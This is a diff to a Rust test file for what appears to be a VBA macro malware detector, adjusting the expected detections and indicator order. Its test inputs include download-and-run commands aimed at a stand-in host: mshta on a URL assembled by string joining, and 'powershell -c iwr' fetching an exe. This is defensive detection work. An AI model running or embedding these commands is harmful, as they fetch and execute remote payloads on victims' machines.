@@ -118,7 +118,7 @@ fn calls_are_judged_by_what_they_do() {
         ),
         (
             "Dim p(2)\np(0) = \"mshta \"\np(1) = \"http://\"\np(2) = \"a.example\"\nShell Join(p, \"\")",
-            &["vba-run-interpreter"],
+            &["vba-download", "vba-run-interpreter"],
         ),
         ("CallByName CreateObject(\"WScript.Shell\"), \"Run\", VbMethod, \"cmd /c dir\"", &["vba-run-interpreter"]),
         (
@@ -309,7 +309,7 @@ fn what_is_found_has_place_evidence_and_indicators() {
         ("Module1:3", "shell powershell -c iwr http://a.example/x.exe")
     );
     let values: Vec<&str> = report.indicators.iter().map(|indicator| indicator.value.as_str()).collect();
-    assert_eq!(values, ["http://a.example/x.exe", "powershell -c iwr http://a.example/x.exe"]);
+    assert_eq!(values, ["powershell -c iwr http://a.example/x.exe", "http://a.example/x.exe"]);
 }
 
 #[test]
